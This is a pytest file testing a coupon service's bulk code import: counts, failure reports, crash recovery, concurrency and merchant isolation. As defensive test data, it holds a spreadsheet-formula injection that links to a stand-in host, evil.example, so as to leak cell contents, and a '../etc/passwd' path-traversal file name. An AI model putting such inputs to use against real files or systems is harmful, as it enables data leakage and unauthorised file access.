"""Bulk import of external codes: every code imported exactly once, every failure reported."""

from __future__ import annotations

import base64
import csv
import io
import json
import random
from collections import Counter

import pytest
from coupon_service import events, keys, settings
from coupon_service.aws import client
from coupon_service.imports import Imports, job_id_for
from coupon_service.store.table import Table
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from devstack.streams import StreamReader
from tests.builders import claim_items, claim_now, make_coupon
from tests.builders import run_import as run
from tests.builders import upload_codes as upload
from tests.support import call, concurrently, coupon_body, customer, inject, merchant

pytestmark = pytest.mark.usefixtures("stack", "importing")


def imported_coupon(**overrides):
    return make_coupon(codes={"mode": "imported", **overrides.pop("codes", {})}, shard_count=2, **overrides)


def job_of(obj):
    return Table().get(keys.import_job(job_id_for(obj["bucket"], obj["key"], obj["version"])))


def failed_rows(obj):
    job = job_of(obj)
    body = client("s3").get_object(Bucket=obj["bucket"], Key=job["failed_key"])["Body"].read().decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["line", "code", "reason"]
    return [(int(line), code, reason) for line, code, reason in rows[1:]]


def pool_codes(coupon):
    """Every code the coupon's pools hold below their size, shard by shard."""
    table = Table()
    held = []
    for index in range(coupon["shard_count"]):
        shard = table.get(keys.shard(coupon["coupon_id"], index))
        size = shard["pool_size"]
        for chunk in range((size + keys.CHUNK - 1) // keys.CHUNK):
            codes = table.get(keys.pool_chunk(coupon["coupon_id"], index, chunk))["codes"]
            held.extend(codes[: size - chunk * keys.CHUNK])
        assert shard["units"] == shard["remaining"] + shard["claimed"] == size
    return held


def stats(coupon):
    return call("GET", f"/coupons/{coupon['coupon_id']}/stats", claims=merchant("m1")).json["inventory"]


def codes(n, prefix="C"):
    return [f"{prefix}{i:07d}" for i in range(n)]


def test_a_file_of_100000_codes_imports_exactly_the_good_ones_and_reports_the_rest():
    # Given 1,000 codes already imported for another of the merchant's coupons
    other = imported_coupon()
    existing = codes(1000, "OLD")
    assert run(upload(other["coupon_id"], "\n".join(existing).encode())) == "finished"
    # And a 100,000-code file: 97,000 good, 1,000 malformed, 1,000 repeated, 1,000 already stored
    coupon = imported_coupon()
    good = codes(97_000)
    rng = random.Random(5)
    lines = [*good, *(f"bad code {i}" for i in range(1000)), *rng.sample(good, 1000), *existing]
    rng.shuffle(lines)
    data = ("\ufeffcode\r\n" + "\r\n".join(lines) + "\r\n").encode()

    # When it is imported
    obj = upload(coupon["coupon_id"], data)
    assert run(obj) == "finished"

    # Then the counts are exact, and the failed-codes file names every failed line and why
    job = job_of(obj)
    assert (job["codes"], job["imported"], job["failed"]) == (100_000, 97_000, 3000)
    expected = []
    seen = set()
    for line_no, code in enumerate(lines, start=2):
        if code.startswith("bad"):
            expected.append((line_no, code, "malformed"))
        elif code in seen:
            expected.append((line_no, code, "duplicate_in_file"))
        elif code.startswith("OLD"):
            expected.append((line_no, code, "already_exists"))
        seen.add(code)
    assert failed_rows(obj) == expected
    # And the pools hold every good code once, and the inventory grew by exactly that
    held = pool_codes(coupon)
    assert len(held) == 97_000 and set(held) == set(good)
    assert stats(coupon)["total"] == 97_000


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        ("\n".join(codes(100_001)).encode(), "too_many_codes"),
        (bytes(range(256)) * 4, "binary"),
        ("CAFÉ-001\nCAFÉ-002\n".encode("latin-1"), "not_utf8"),
        (b"", "no_codes"),
        (b"code\n\n  \n", "no_codes"),
    ],
    ids=["100001-codes", "binary", "latin-1", "empty", "header-only"],
)
def test_a_file_that_cannot_be_imported_whole_is_rejected_whole_with_its_reason(data, reason):
    coupon = imported_coupon()
    obj = upload(coupon["coupon_id"], data)
    assert run(obj) == "rejected"
    job = job_of(obj)
    assert (job["status"], job["reason"], job.get("imported", 0)) == ("rejected", reason, 0)
    assert pool_codes(coupon) == []
    summary = client("s3").get_object(Bucket=obj["bucket"], Key=f"reports/{job['job_id']}/summary.json")
    assert reason in summary["Body"].read().decode()


def test_a_csv_row_with_an_empty_code_cell_is_reported_malformed():
    coupon = imported_coupon()
    obj = upload(coupon["coupon_id"], b"store,code\nA,GOOD-001\nB,\n\nC,GOOD-002\n")
    assert run(obj) == "finished"
    job = job_of(obj)
    assert (job["codes"], job["imported"], job["failed"]) == (3, 2, 1)
    assert failed_rows(obj) == [(3, "", "malformed")]


def test_codes_too_easy_to_guess_fail_as_too_guessable_and_the_rest_are_imported():
    # Given a file mixing good codes with short, all-digit, repeated and run codes
    coupon = imported_coupon()
    weak = ["AB12", "1234567", "123456789", "QQQQQQQQQQ", "ABCDEFGHIJ"]
    good = ["GOOD-0001", "8301957264", "abcdefgz", "K7-X2-P9-Q4"]
    obj = upload(coupon["coupon_id"], "\n".join([good[0], *weak, *good[1:]]).encode())
    # When it is imported
    assert run(obj) == "finished"
    # Then the weak codes are in the failed-codes file as too_guessable, and only the good ones imported
    assert failed_rows(obj) == [(line, code, "too_guessable") for line, code in enumerate(weak, start=2)]
    job = job_of(obj)
    assert (job["imported"], job["failed"], job["too_guessable"]) == (4, 5, 5)
    assert sorted(pool_codes(coupon)) == sorted(good)
    listed = call("GET", f"/coupons/{coupon['coupon_id']}/imports", claims=merchant("m1")).json["items"]
    assert listed[0]["counts"]["too_guessable"] == 5


def test_a_coupon_that_allows_short_codes_imports_them_and_says_so():
    coupon = imported_coupon(codes={"allow_short_codes": True})
    assert coupon["codes"]["allow_short_codes"] is True
    obj = upload(coupon["coupon_id"], b"AB12\n1234567\nQQQQQQQQQQ\n")
    assert run(obj) == "finished"
    assert (job_of(obj)["imported"], job_of(obj)["failed"]) == (3, 0)
    assert sorted(pool_codes(coupon)) == ["1234567", "AB12", "QQQQQQQQQQ"]


def test_failed_code_cells_a_spreadsheet_would_run_as_formulas_are_neutralised():
    # Given a file whose malformed or repeated lines start like spreadsheet formulas
    coupon = imported_coupon()
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+2", "@SUM(A1:A9)", "-2+3"]
    lines = ["code", *(f'"{cell.replace(chr(34), chr(34) * 2)}"' for cell in hostile), "GOOD-0001"]
    lines += ["-RENEW-2024", "-RENEW-2024"]  # a valid code that starts with '-', repeated
    obj = upload(coupon["coupon_id"], "\n".join(lines).encode())
    assert run(obj) == "finished"
    # Then every such cell starts with a quote, so a spreadsheet shows it as text, and each cell is quoted
    job = job_of(obj)
    raw = client("s3").get_object(Bucket=obj["bucket"], Key=job["failed_key"])["Body"].read().decode()
    rows = failed_rows(obj)
    assert rows == [
        *((line, "'" + cell, "malformed") for line, cell in enumerate(hostile, start=2)),
        (8, "'-RENEW-2024", "duplicate_in_file"),
    ]
    assert all(line.startswith('"') for line in raw.splitlines()[1:])
    assert not any(code.startswith(("=", "+", "-", "@", "\t", "\r")) for _, code, _ in rows)


def test_a_file_over_the_size_limit_is_rejected_from_the_event_before_it_is_read(monkeypatch):
    monkeypatch.setenv("IMPORT_MAX_BYTES", "1000")
    settings.settings.cache_clear()
    coupon = imported_coupon()
    obj = upload(coupon["coupon_id"], "\n".join(codes(200)).encode())
    assert run(obj) == "rejected" and job_of(obj)["reason"] == "too_large"
    assert pool_codes(coupon) == []


def test_a_file_for_a_coupon_of_another_merchant_or_mode_writes_no_code():
    coupon = imported_coupon()
    theirs = upload(coupon["coupon_id"], b"ABCD-0001\n", merchant_id="m2")
    assert run(theirs) == "rejected" and job_of(theirs)["reason"] == "not_your_coupon"
    random_codes = make_coupon()
    wrong_mode = upload(random_codes["coupon_id"], b"ABCD-0001\n")
    assert run(wrong_mode) == "rejected" and job_of(wrong_mode)["reason"] == "not_imported_mode"
    assert pool_codes(coupon) == []
    assert Table().get(keys.code_registry("m1", "ABCD-0001")) is None


@pytest.mark.parametrize("fault_mode", ["clean", "lost"])
def test_the_same_event_three_times_two_at_once_imports_once(emulator, stack, fault_mode):
    coupon = imported_coupon()
    obj = upload(coupon["coupon_id"], "\n".join(codes(3000)).encode())
    reader = StreamReader(emulator.url, stack.tables["CouponsTable"])
    reader.drain()
    inject(emulator, fault_mode)  # lost: 15% of writes refused, 15% applied with their answer lost
    answers = concurrently(lambda _: run(obj), 2, threads=2)
    assert answers == ["finished", "finished"]
    assert run(obj) == "finished"
    emulator.faults.rate = 0.0
    assert fault_mode == "clean" or emulator.faults.by_kind["lost"] + emulator.faults.by_kind["timeout"] > 0
    held = pool_codes(coupon)
    assert sorted(held) == codes(3000)
    job = job_of(obj)
    assert (job["imported"], job["failed"], job["batches"]) == (3000, 0, 6)
    # And the outbox says once that it finished
    finished = [e for r in reader.drain() for e in events.derive(r) if isinstance(e, events.ImportFinished)]
    assert [(e.job_id, e.status, e.imported) for e in finished] == [(job["job_id"], "finished", 3000)]


def test_a_run_that_dies_half_way_resumes_to_the_state_and_report_of_a_clean_run(monkeypatch):
    lines = [*codes(2500), "bad!", *codes(10)[:5], *codes(1500, "D")]
    data = "\n".join(lines).encode()
    # Given the same file imported cleanly by one merchant
    clean_coupon = imported_coupon()
    clean = upload(clean_coupon["coupon_id"], data)
    assert run(clean) == "finished"
    body = coupon_body(codes={"mode": "imported"}, shard_count=2)
    crashed_coupon = call("POST", "/coupons", claims=merchant("m3"), body=body).json

    # When another merchant's run dies after its third batch's codes are registered, before its commit
    crashed = upload(crashed_coupon["coupon_id"], data, merchant_id="m3")
    original = Imports._commit
    calls = Counter()

    def dying(self, job, *args, **kwargs):
        calls["commit"] += 1
        if calls["commit"] == 3:
            raise RuntimeError("the function timed out")
        return original(self, job, *args, **kwargs)

    monkeypatch.setattr(Imports, "_commit", dying)
    with pytest.raises(RuntimeError):
        run(crashed)
    monkeypatch.setattr(Imports, "_commit", original)
    # And the event is delivered again
    assert run(crashed) == "finished"

    # Then the codes and the report are those of the clean run
    assert sorted(c.replace("K", "C") for c in pool_codes(crashed_coupon)) == sorted(pool_codes(clean_coupon))
    rows = [(line, code.replace("K", "C"), reason) for line, code, reason in failed_rows(crashed)]
    assert rows == failed_rows(clean)
    a, b = job_of(clean), job_of(crashed)
    assert (a["imported"], a["failed"], a["duplicate_in_file"]) == (
        b["imported"],
        b["failed"],
        b["duplicate_in_file"],
    )


def test_an_import_longer_than_one_invocation_continues_from_its_checkpoint():
    coupon = imported_coupon()
    obj = upload(coupon["coupon_id"], "\n".join(codes(2200)).encode())
    budget = iter([100.0, 10.0])  # one batch, then too little time left
    assert run(obj, time_left=lambda: next(budget, 10.0)) == "continue"
    assert 0 < job_of(obj)["imported"] < 2200
    assert run(obj) == "finished"
    assert sorted(pool_codes(coupon)) == codes(2200)


@pytest.mark.parametrize("fault_mode", ["clean", "lost"])
def test_two_files_sharing_2000_codes_imported_at_once_store_each_code_once(emulator, fault_mode):
    coupon = imported_coupon()
    shared = codes(2000, "S")
    first = upload(coupon["coupon_id"], "\n".join([*shared, *codes(1500, "A")]).encode(), name="a.csv")
    second = upload(coupon["coupon_id"], "\n".join([*codes(1500, "B"), *shared]).encode(), name="b.csv")
    inject(emulator, fault_mode)
    assert concurrently(lambda i: run([first, second][i]), 2, threads=2) == ["finished", "finished"]
    emulator.faults.rate = 0.0
    held = pool_codes(coupon)
    assert len(held) == len(set(held)) == 5000
    a, b = job_of(first), job_of(second)
    assert a["imported"] + b["imported"] == 5000
    assert a["already_exists"] + b["already_exists"] == 2000
    reported = {
        code for obj in (first, second) for _, code, reason in failed_rows(obj) if reason == "already_exists"
    }
    assert reported == set(shared)


@pytest.mark.parametrize("fault_mode", ["clean", "lost"])
def test_claims_at_full_speed_during_an_import_never_share_a_code_and_always_get_one(emulator, fault_mode):
    coupon = imported_coupon()
    obj = upload(coupon["coupon_id"], "\n".join(codes(3000)).encode())

    def work(i):
        if i == 0:
            return run(obj)
        return claim_now(coupon["coupon_id"], f"c{i}")

    inject(emulator, fault_mode)
    answers = concurrently(work, 400, threads=16)
    emulator.faults.rate = 0.0
    assert answers[0] == "finished"
    claimed = [a.json["code"] for a in answers[1:] if a.status == 201]
    assert len(claimed) == len(set(claimed)) and set(claimed) <= set(codes(3000))
    assert all(a.status in (201, 409) for a in answers[1:]), [a.json for a in answers[1:] if a.status >= 500]
    assert stats(coupon)["claimed"] == len(claimed) == len(claim_items(coupon["coupon_id"]))
    # And every code is in the pool once, with no position left marked by a claim
    assert sorted(pool_codes(coupon)) == codes(3000)
    for index in range(coupon["shard_count"]):
        shard = Table().get(keys.shard(coupon["coupon_id"], index))
        assert not [name for name in shard if name.startswith("taker_")], shard


@hypothesis_settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    lines=st.lists(
        st.one_of(
            st.from_regex(r"[A-Za-z0-9_-]{4,12}", fullmatch=True),
            st.text(max_size=20).filter(lambda t: "\n" not in t and "\r" not in t),
            st.just(""),
        ),
        max_size=60,
    ),
    separator=st.sampled_from(["\n", "\r\n"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "latin-1"]),
)
def test_fuzzed_files_never_crash_and_every_line_is_accounted_for(lines, separator, encoding):
    coupon = imported_coupon()
    try:
        data = separator.join(lines).encode(encoding)
    except UnicodeEncodeError:
        return
    obj = upload(coupon["coupon_id"], data, name=f"f{random.random():.12f}.txt")
    status = run(obj)
    job = job_of(obj)
    assert status in ("finished", "rejected")
    if status == "finished":
        # Every code line is either imported or in the failed-codes file, once
        assert job["imported"] + job["failed"] == job["codes"]
        assert len(failed_rows(obj)) == job["failed"]
        assert len(pool_codes(coupon)) == job["imported"]
    else:
        assert job["reason"] and pool_codes(coupon) == []


def test_the_import_api_checks_input_and_keeps_merchants_apart():
    coupon = imported_coupon()
    path = f"/coupons/{coupon['coupon_id']}/imports"
    # Bad input is a 422 naming the field
    bad = call("POST", path, claims=merchant("m1"), body={"file_name": "../etc/passwd"})
    assert bad.status == 422 and bad.json["error"]["field"] == "body.file_name"
    extra = call("POST", path, claims=merchant("m1"), body={"file_name": "a.csv", "bucket": "x"})
    assert extra.status == 422 and extra.json["error"]["field"] == "body.bucket"
    # The form is for this merchant's prefix and this coupon only
    form = call("POST", path, claims=merchant("m1"), body={"file_name": "a.csv"})
    assert form.status == 201 and form.json["key"].startswith(f"imports/m1/{coupon['coupon_id']}/")
    assert ["content-length-range", 1, form.json["max_bytes"]] in _policy_conditions(form.json)
    # Another merchant reaches neither the coupon's form nor its jobs
    obj = upload(coupon["coupon_id"], b"CODE-0001\n")
    run(obj)
    job_id = job_of(obj)["job_id"]
    assert call("POST", path, claims=merchant("m2"), body={}).status == 404
    assert call("GET", path, claims=merchant("m2")).status == 404
    assert call("GET", f"{path}/{job_id}", claims=merchant("m2")).status == 404
    assert [j["job_id"] for j in call("GET", path, claims=merchant("m1")).json["items"]] == [job_id]
    # Customers and staff cannot use it
    assert call("GET", path, claims=customer("u1")).status == 403
    # A coupon whose codes are not imported gets no form
    plain = make_coupon()
    refused = call("POST", f"/coupons/{plain['coupon_id']}/imports", claims=merchant("m1"), body={})
    assert refused.status == 409 and refused.json["error"]["code"] == "not_imported_mode"


def _policy_conditions(form):
    return json.loads(base64.b64decode(form["fields"]["policy"]))["conditions"]
